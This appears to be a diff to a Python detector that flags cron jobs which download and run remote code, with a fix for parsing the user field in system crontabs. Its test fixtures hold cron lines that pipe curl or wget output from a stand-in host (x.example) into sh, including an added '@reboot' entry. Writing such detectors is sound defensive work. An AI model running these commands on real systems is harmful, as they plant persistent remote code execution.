@@ -33,6 +33,7 @@ PATTERNS = Patterns(
 FIRES = (
     sample((("etc/cron.d/beacon", "* * * * * root wget -qO- https://x.example/a\n"),)),
     sample((("etc/crontabs/root", "*/5 * * * * curl -s https://x.example/a | sh\n"),)),
+    sample((("etc/cron.d/x", "@reboot root curl -s https://x.example/a | sh\n"),)),
     sample((("etc/cron.daily/fetch", "#!/bin/sh\ncurl -o /x https://x.example\n"),)),
 )
 SILENT = (
@@ -54,7 +55,7 @@ def _jobs(scene: Scene) -> Iterator[tuple[Place, bool]]:
     scripts = [path for folder in _SCRIPTS for path in scene.files_in(folder)]
     for path in ("etc/crontab", "etc/anacrontab", *tables, *scripts):
         for number, line in scene.lines(path):
-            text = line if path in scripts else _command(line)
+            text = line if path in scripts else _command(line, _has_user(path))
             ran = tuple(commands(text))
             ways = tuple(fetched_and_run(ran))
             fetching = [word for one in ran for word in one.words if _name(word) in FETCHERS]
@@ -63,12 +64,17 @@ def _jobs(scene: Scene) -> Iterator[tuple[Place, bool]]:
                 yield Place(path, note, number), bool(ways)
 
 
-def _command(line: str) -> str:
-    """Return what a line of a crontab runs, perhaps behind a user's name."""
-    if line.startswith("@"):
-        return line.partition(" ")[2]
-    parts = line.split(None, 5)
-    return parts[5] if len(parts) == 6 and parts[0][:1] in "*0123456789" else ""
+def _command(line: str, with_user: bool) -> str:
+    """Return what a line of a crontab runs."""
+    times = 1 if line.startswith("@") else 5
+    parts = line.split(None, times + with_user)
+    is_job = line[:1] in "*@0123456789" and len(parts) == times + with_user + 1
+    return parts[-1] if is_job else ""
+
+
+def _has_user(path: str) -> bool:
+    """Say whether the lines of a table name a user before the command."""
+    return path == "etc/crontab" or path.startswith("etc/cron.d/")
 
 
 def _name(word: str) -> str:
